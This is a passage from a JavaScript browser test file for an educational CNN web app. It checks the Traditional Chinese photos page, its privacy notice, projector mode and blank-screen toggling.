  assert.ok(errors.every((e) => /Content Security Policy|Failed to fetch/.test(e)), errors.join('\n'));
  await page.close();
});

test('the photos page in Traditional Chinese', async () => {
  const { page, errors } = await newPage(site.browser, { locale: 'zh-TW' });
  await openPhotos(page, site.url);
  assert.match(await page.textContent('h2.stage-title'), /你的照片/);
  assert.match(await page.textContent('.privacy'), /只留在這台裝置上/);
  await page.waitForFunction(() => document.title === '你的照片 · CNN 學堂');
  // The same header as every page, with projector mode.
  await page.click('#btn-projector');
  await page.waitForSelector('.app.photos.projector');
  await page.waitForFunction(() => location.search.includes('projector=1'));
  await page.keyboard.press('b');
  await page.waitForSelector('#blank-screen');
  await page.keyboard.press('b');
  await page.waitForFunction(() => !document.querySelector('#blank-screen'));
  await page.click('#btn-projector');
  await page.waitForFunction(() => !document.querySelector('.app.projector') && !location.search.includes('projector'));
  assert.deepEqual(errors, []);
  await page.close();
});
